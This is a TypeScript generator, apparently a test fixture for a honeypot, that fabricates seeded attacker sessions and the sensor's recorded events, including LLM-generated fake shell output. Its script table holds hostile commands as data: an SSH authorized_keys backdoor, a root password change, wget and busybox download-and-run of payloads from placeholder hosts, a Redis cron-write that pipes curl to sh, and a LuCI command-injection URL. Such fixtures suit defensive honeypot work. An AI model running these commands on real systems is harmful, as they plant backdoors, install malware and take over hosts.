import { attackTags } from '../../src/analysis/attack/tag.ts'
import type { SundewEvent } from '../../src/events/schema.ts'
import { uuid7 } from '../../src/events/uuid7.ts'

/** What bots and people do at a sensor, made up from a seed: the same seed gives the same traffic, ids apart. */
export interface Traffic {
  seed: number
  sessions: number
  /** Sessions begin evenly between these, UTC milliseconds. */
  since: number
  until: number
  /** How often a visitor goes through its script; once. */
  rounds?: number
}

interface Script {
  lure: string
  standsFor: string[]
  port: number
  weight: number
  hassh?: string
  client?: string
  /** Tried until the last one, which is let in. */
  credentials?: [string, string][]
  inputs: string[]
  file?: string
}

const LINUX = 'Linux web01 6.1.0-28-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.119-1 (2024-11-22) x86_64 GNU/Linux'

const SCRIPTS: readonly Script[] = [
  {
    lure: 'ssh',
    standsFor: ['Cowrie', 'Beelzebub'],
    port: 22,
    weight: 34,
    hassh: '0a07365cc01fa9fc82608ba4019af499',
    client: 'SSH-2.0-Go',
    credentials: [
      ['root', '123456'],
      ['root', 'admin'],
      ['root', '3245gs5662d34'],
    ],
    inputs: ['uname -s -v -n -r -m'],
  },
  {
    lure: 'ssh',
    standsFor: ['Cowrie', 'Beelzebub'],
    port: 22,
    weight: 18,
    hassh: 'f555226df1963d1d3c09daf865abdc9a',
    client: 'SSH-2.0-libssh_0.9.6',
    credentials: [['root', 'Passw0rd!']],
    inputs: [
      'cd ~; chattr -ia .ssh; lockr -ia .ssh',
      'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~',
      'cat /proc/cpuinfo | grep name | wc -l',
      'echo "root:%PASSWORD%"|chpasswd|bash',
      "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
      'uname -m',
      'crontab -l',
      'w',
    ],
  },
  {
    lure: 'ssh',
    standsFor: ['Cowrie', 'Beelzebub'],
    port: 22,
    weight: 9,
    hassh: '57446c12547a668110aa237e5965e374',
    client: 'SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.10',
    credentials: [['admin', 'admin']],
    inputs: [
      'ls -la',
      'cat .env',
      'systemctl list-units --type=service',
      'nvidia-smi',
      'docker ps',
      'cat /var/backups/tw_portal.sql | head',
      'exit',
    ],
  },
  {
    lure: 'ssh',
    standsFor: ['Cowrie', 'Beelzebub'],
    port: 22,
    weight: 14,
    hassh: '92674389fa1e47a27ddd8d9b63ecd42b',
    client: 'SSH-2.0-Go',
    credentials: [['ubnt', 'ubnt']],
    inputs: [
      'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://%IP%/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh',
      'busybox wget http://%IP%/bot.x86_64 -O - > /tmp/.x; chmod +x /tmp/.x; /tmp/.x ssh.%IP%',
    ],
    file: 'elf',
  },
  {
    lure: 'redis',
    standsFor: ['Redishoneypot'],
    port: 6379,
    weight: 8,
    inputs: [
      'INFO',
      'CONFIG SET dir /var/spool/cron/',
      'CONFIG SET dbfilename root',
      'SET x "*/2 * * * * curl -fsSL http://%IP%/ash.sh | sh"',
      'SAVE',
    ],
  },
  {
    lure: 'telnet',
    standsFor: ['Cowrie'],
    port: 23,
    weight: 11,
    credentials: [
      ['root', 'xc3511'],
      ['root', 'vizxv'],
    ],
    inputs: [
      'enable',
      'system',
      'shell',
      'sh',
      'cat /proc/mounts; /bin/busybox QHTEL',
      'cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox QHTEL',
    ],
  },
  {
    lure: 'http',
    standsFor: ['Galah'],
    port: 80,
    weight: 12,
    inputs: ['GET /', 'GET /.env', 'GET /.git/config', 'POST /boaform/admin/formLogin', 'GET /wp-login.php'],
  },
  {
    lure: 'http',
    standsFor: ['Galah'],
    port: 80,
    weight: 6,
    inputs: ['GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget+http://%IP%/t`)'],
  },
]

const PLACES = [
  '45.148.10',
  '218.92.0',
  '61.177.172',
  '185.224.128',
  '103.145.13',
  '177.54.150',
  '92.255.85',
  '141.98.11',
  '5.188.206',
  '36.110.228',
]
const MODEL = 'qwen3:4b-instruct'
const VERSIONS = ['4c1f9a2e', '9f2c61aa']

/** The events of one session after another. */
export function* trafficOf({ seed, sessions, since, until, rounds = 1 }: Traffic): Generator<SundewEvent[]> {
  const random = mulberry32(seed)
  const step = (until - since) / sessions
  for (let n = 0; n < sessions; n++) yield [...sessionOf(random, since + (n + random()) * step, until, rounds)]
}

function* sessionOf(random: () => number, start: number, until: number, rounds: number): Generator<SundewEvent> {
  const script = weighted(SCRIPTS, random)
  const session = uuid7(Math.floor(start))
  const srcIp = `${pick(PLACES, random)}.${Math.floor(random() ** 3 * 250) + 1}`
  let time = Math.floor(start)
  const event = (type: string, data: Record<string, unknown>): SundewEvent => {
    const made: SundewEvent = {
      id: uuid7(Math.floor(time)),
      time: Math.floor(Math.min(time, until)),
      sensor: 'sundew',
      session,
      lure: script.lure,
      standsFor: script.standsFor,
      persona: 'debian-web',
      transport: 'tcp',
      srcIp,
      srcPort: 20_000 + Math.floor(random() * 40_000),
      dstIp: '198.51.100.4',
      dstPort: script.port,
      type,
      data,
    }
    const tags = attackTags(made)
    return tags.length > 0 ? { ...made, tags } : made
  }
  yield event('session.open', {})
  if (script.client) yield event('ssh.version', { version: script.client, accepted: true })
  if (script.hassh) yield event('fingerprint', { kind: 'hassh', value: script.hassh })
  const isLetIn = random() < 0.7
  for (const [n, [username, password]] of (script.credentials ?? []).entries()) {
    time += 300 + random() * 900
    const isLast = n === (script.credentials?.length ?? 0) - 1
    yield event('login', { method: 'password', username, password, accepted: isLast && isLetIn })
  }
  const typed = 1 + Math.floor(random() * 1.6 * script.inputs.length * rounds)
  const lines = Array.from({ length: rounds }, () => script.inputs).flat()
  const inputs = script.credentials && !isLetIn ? [] : lines.slice(0, typed)
  for (const template of inputs) {
    time += 200 + random() * 4000
    const input = template.replaceAll('%IP%', `${pick(PLACES, random)}.77`).replace('%PASSWORD%', Math.floor(random() * 1e12).toString(36))
    yield event('turn', turnOf(script, input, time, random))
  }
  if (script.file && inputs.length > 1) {
    const digit = Math.floor(random() * 3).toString()
    yield event('artifact', {
      sha256: `7f${digit}e`.padEnd(64, 'a3f09c41d2'),
      sha1: `5${digit}`.padEnd(40, '3c0d'),
      md5: `e${digit}`.padEnd(32, '9b1f'),
      size: 48_120 + Number(digit) * 512,
      truncated: false,
      magic: 'elf',
      name: '/tmp/.x',
      how: 'sftp',
    })
  }
  time += 500 + random() * 9000
  yield event('session.close', { durationMs: time - start, bytesIn: 900, bytesOut: 4_000, reason: 'attacker' })
}

function turnOf(script: Script, input: string, time: number, random: () => number): Record<string, unknown> {
  if (script.lure === 'http') {
    const [method, target = '/'] = input.split(' ', 2)
    const raw = `${method} ${target} HTTP/1.1\r\nHost: 198.51.100.4\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n`
    const source = random() < 0.3 ? 'llm' : 'static'
    return {
      kind: 'web',
      input: raw,
      output:
        'HTTP/1.1 404 Not Found\r\nServer: nginx/1.22.1\r\nContent-Type: text/html\r\n\r\n<html>\r\n<head><title>404 Not Found</title></head>\r\n<body>\r\n<center><h1>404 Not Found</h1></center>\r\n</body>\r\n</html>\r\n',
      source,
      durationMs: 2 + random() * 9,
      detail: { method, target, status: 404, bodyBytes: 0 },
      ...(source === 'llm' ? { generation: generationOf(time, random) } : {}),
    }
  }
  const source = weighted(
    [
      { weight: 70, name: 'static' },
      { weight: 17, name: 'llm' },
      { weight: 8, name: 'cache' },
      { weight: 3, name: 'fallback' },
      { weight: 2, name: 'pin' },
    ],
    random,
  ).name
  return {
    kind: script.lure === 'ssh' || script.lure === 'telnet' ? 'shell' : script.lure,
    input,
    output: outputOf(input),
    source,
    exitCode: 0,
    durationMs: source === 'llm' ? 700 + random() * 2_500 : 1 + random() * 4,
    ...(source === 'llm' ? { generation: generationOf(time, random) } : {}),
  }
}

function generationOf(time: number, random: () => number): Record<string, unknown> {
  const totalMs = 500 + random() ** 2 * 4_000
  return {
    persona: 'debian-web',
    promptVersion: VERSIONS[Number(Math.floor(time) % 3 === 0)],
    backend: 'http://127.0.0.1:11434',
    model: MODEL,
    queuedMs: random() * 20,
    firstTokenMs: totalMs * 0.3,
    totalMs,
    promptTokens: 1_411,
    cachedTokens: 1_280,
    outputTokens: 40 + Math.floor(random() * 200),
    ...(random() < 0.03 ? { guard: ['markdown-fence'] } : {}),
  }
}

function outputOf(input: string): string {
  if (input.startsWith('uname -m')) return 'x86_64\n'
  if (input.startsWith('uname')) return `${LINUX}\n`
  if (input.startsWith('cat /proc/cpuinfo')) return '4\n'
  if (input.startsWith('free')) return '7941 2114 3312 61 2514 5488\n'
  if (input === 'w')
    return ' 14:02:11 up 41 days,  3:17,  1 user,  load average: 0.08, 0.03, 0.01\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\nroot     pts/0    -                14:02    1.00s  0.02s  0.00s w\n'
  if (input.startsWith('ls'))
    return 'total 28\ndrwx------  4 root root 4096 Mar  2 11:40 .\ndrwxr-xr-x 18 root root 4096 Jan 11 09:02 ..\n-rw-------  1 root root  812 Mar  2 11:38 .bash_history\n-rw-r--r--  1 root root  571 Apr 10  2021 .bashrc\n-rw-r-----  1 root root  403 Feb 17 08:21 .env\ndrwx------  2 root root 4096 Jan 11 09:14 .ssh\n'
  if (input === 'INFO') return '# Server\r\nredis_version:5.0.7\r\nos:Linux 6.1.0-28-amd64 x86_64\r\n'
  return ''
}

function weighted<T extends { weight: number }>(choices: readonly T[], random: () => number): T {
  let left = random() * choices.reduce((sum, { weight }) => sum + weight, 0)
  for (const choice of choices) {
    left -= choice.weight
    if (left < 0) return choice
  }
  return choices[0] as T
}

function pick<T>(choices: readonly T[], random: () => number): T {
  return choices[Math.floor(random() * choices.length)] as T
}

/** Tommy Ettinger's small generator: 32 bits of state are plenty for this. */
function mulberry32(seed: number): () => number {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}
